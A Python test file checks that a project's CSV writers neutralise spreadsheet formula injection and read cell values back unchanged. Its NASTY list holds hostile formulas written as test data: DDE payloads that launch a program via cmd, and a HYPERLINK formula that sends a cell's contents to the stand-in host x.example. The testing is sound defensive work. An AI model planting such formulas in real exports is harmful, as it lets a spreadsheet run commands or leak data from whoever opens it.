"""Cells that a spreadsheet would execute: written as text, read back unchanged."""

import csv
import io
import json

import numpy as np
import pytest
from hypothesis import given
from hypothesis import strategies as st

from confrank.active.labelled import read_labelled
from confrank.analysis.repeats import Cell
from confrank.classify_images import Answers
from confrank.predictions import Predictions, load_predictions
from confrank.report.paper_table import render
from confrank.spreadsheet import csv_text, guarded, unguarded

# Formulas that run a program or send data away, and names that only look like them.
NASTY = [
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("http://x.example/?"&A1)',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd",
    "\t=1+1",
    "'=1+1",
    "''@x",
    "＝1+1",
]
PLAIN = ["cat", "'tis", "-1", "-1.5e-3", "+.5", "a=b", "x-ray", "1.", "'"]


@pytest.mark.parametrize("name", NASTY)
def test_a_formula_is_written_as_text(name):
    assert guarded(name) == f"'{name}"
    assert unguarded(guarded(name)) == name


@pytest.mark.parametrize("name", PLAIN)
def test_other_names_and_numbers_are_written_as_they_are(name):
    assert guarded(name) == unguarded(name) == name


@given(st.text(alphabet="'=+-@\t\r\n1.eE ab＝", max_size=6))
def test_every_text_is_read_back_and_none_starts_a_formula(text):
    written = guarded(text)
    assert unguarded(written) == text
    try:
        float(written)
    except ValueError:
        assert written[:1] not in {*"=+-@\t\r＝"}


def test_numbers_stay_numbers():
    assert csv_text([["=a", -1.5, -2, None]]) == "'=a,-1.5,-2,\n"


def test_answers_and_labels_are_read_back_unchanged(tmp_path):
    paths = [f"{name}.png" for name in NASTY if "\t" not in name]
    raw = Predictions(
        logits=np.eye(len(paths)),
        confidence=np.linspace(-1, 1, len(paths)),
        metadata={"class_names": json.dumps(paths), "key": "path"},
    )
    text = Answers(paths, raw, [], []).as_csv()
    rows = list(csv.DictReader(io.StringIO(text)))
    assert all(row["path"][0] == row["prediction"][0] == "'" for row in rows)
    assert float(rows[0]["confidence"]) == -1
    file = tmp_path / "labelled.csv"
    labels = dict(zip(paths, [name.removesuffix(".png") for name in reversed(paths)], strict=True))
    file.write_text(csv_text([("path", "label"), *labels.items()]))
    assert dict(read_labelled(file, print).labels) == labels


def test_predictions_are_read_back_unchanged(tmp_path):
    names = [name for name in NASTY if "\t" not in name] + ["cat"]
    rows = [(f"{name}.png", name, names[0], 0.5) for name in names]
    file = tmp_path / "predictions.csv"
    file.write_text(csv_text([("path", "label", "prediction", "confidence"), *rows]))
    read = load_predictions(file)
    assert [read.key_of(row) for row in range(len(rows))] == [row[0] for row in rows]
    assert [read.class_names[number] for number in read.label] == names
    assert {read.class_names[number] for number in read.prediction} == {names[0]}


def test_class_columns_are_read_back_unchanged(tmp_path):
    file = tmp_path / "table.csv"
    file.write_text(csv_text([("label", "=a", "-b"), ("=a", 0.75, 0.25), ("-b", 0.5, 0.5)]))
    read = load_predictions(file)
    assert (read.class_names, read.label.tolist()) == (["=a", "-b"], [0, 1])


def test_a_table_of_results_holds_no_formula():
    cell = Cell("=cmd()", "vgg16", "@x", "", "aurc", None, None)
    text = render([cell], "csv")
    assert list(csv.reader(io.StringIO(text)))[1][:3] == ["'=cmd()", "vgg16", "'@x"]
